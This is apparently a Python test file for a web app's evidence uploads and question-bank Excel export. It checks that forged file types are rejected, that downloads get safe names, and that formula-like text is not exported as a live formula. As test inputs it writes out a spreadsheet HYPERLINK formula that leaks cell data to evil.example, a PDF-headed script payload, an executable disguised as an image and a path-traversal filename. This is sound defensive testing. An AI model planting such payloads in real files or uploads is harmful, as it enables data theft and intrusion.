"""Files (issue 11 item 9): evidence is judged by parsing it, downloaded as an attachment under a
safe name; Excel exports write text as text, so a stem like =HYPERLINK(…) is never a live formula."""

from __future__ import annotations

import io
import zipfile

from openpyxl import load_workbook
from PIL import Image
from sqlalchemy import select

from app.extensions import db
from app.uploads import EvidenceFile
from tests.conftest import csrf_from
from tests.test_banks_excel import STD, row, upload, xlsx
from tests.test_banks_excel import browser as bank_browser  # noqa: F401  (fixture)
from tests.test_eligibility_pages import PDF, PNG


def _jpeg() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), "#06c").save(buffer, format="JPEG")
    return buffer.getvalue()


JPEG = _jpeg()
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200


def upload_evidence(browser, content: bytes, name: str):
    csrf = csrf_from(browser.get("/eligibility/profile").get_data(True))
    return browser.post(
        "/eligibility/evidence",
        data={"csrf_token": csrf, "label": "证书", "file": (io.BytesIO(content), name)},
        content_type="multipart/form-data",
        follow_redirects=True,
    )


def stored_files(app) -> list[EvidenceFile]:
    with app.app_context():
        return list(db.session.scalars(select(EvidenceFile).order_by(EvidenceFile.id)))


def test_evidence_is_judged_by_parsing_not_by_its_first_bytes(app, make_user, login):
    make_user("cand")
    browser = login("cand")
    forged = {
        "png-header-exe.png": b"\x89PNG\r\n\x1a\n" + EXE,
        "jpeg-header-exe.jpg": b"\xff\xd8\xff\xe0" + EXE,
        "pdf-header-html.pdf": b"%PDF-1.4\n<html><script>alert(1)</script></html>",
        "truncated.png": PNG[: len(PNG) // 2],
        "truncated.pdf": PDF[:40],
    }
    for name, content in forged.items():
        page = upload_evidence(browser, content, name).get_data(True)
        assert "只接受 PDF、JPEG 或 PNG" in page, name
    assert stored_files(app) == []
    for name, content in (("a.png", PNG), ("b.jpg", JPEG), ("c.pdf", PDF)):
        assert "已上传" in upload_evidence(browser, content, name).get_data(True), name
    assert [f.content_type for f in stored_files(app)] == ["image/png", "image/jpeg", "application/pdf"]


def test_evidence_downloads_as_an_attachment_under_a_safe_name(app, make_user, login):
    make_user("cand")
    browser = login("cand")
    upload_evidence(browser, PNG, "page.html")
    upload_evidence(browser, PDF, '../../etc/"证书".pdf')
    first, second = stored_files(app)
    response = browser.get(f"/eligibility/evidence/{first.id}")
    assert response.status_code == 200 and response.data == PNG
    assert response.headers["Content-Type"] == "image/png"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and "page.png" in disposition and "html" not in disposition
    pdf = browser.get(f"/eligibility/evidence/{second.id}")
    assert pdf.headers["Content-Disposition"].startswith("attachment;")
    assert "etc" not in pdf.headers["Content-Disposition"] and '"证书"' not in pdf.headers["Content-Disposition"]


def test_excel_export_writes_formula_like_text_as_text(bank_browser, app):  # noqa: F811
    stem = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看答案")'
    rows = [row("F-1"), row("F-2")]
    rows[0][2] = "=1+1 不是公式"
    rows[1][2] = stem
    book = load_workbook(io.BytesIO(xlsx(rows)))
    for cell in book["试题"]["C"]:
        cell.data_type = "s"  # the author typed text (Excel keeps a leading = as text when asked to)
    buffer = io.BytesIO()
    book.save(buffer)
    assert upload(bank_browser, buffer.getvalue()).status_code == 302
    exported = bank_browser.get(f"/banks/export.xlsx?standard={STD}")
    sheet_xml = zipfile.ZipFile(io.BytesIO(exported.data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"HYPERLINK" in sheet_xml
    # and it imports back unchanged
    assert upload(bank_browser, exported.data).status_code == 302
    listed = bank_browser.get(f"/banks/export.json?standard={STD}").get_json()["items"]
    assert {i["external_id"]: i["stem"] for i in listed} == {"F-1": "=1+1 不是公式", "F-2": stem}
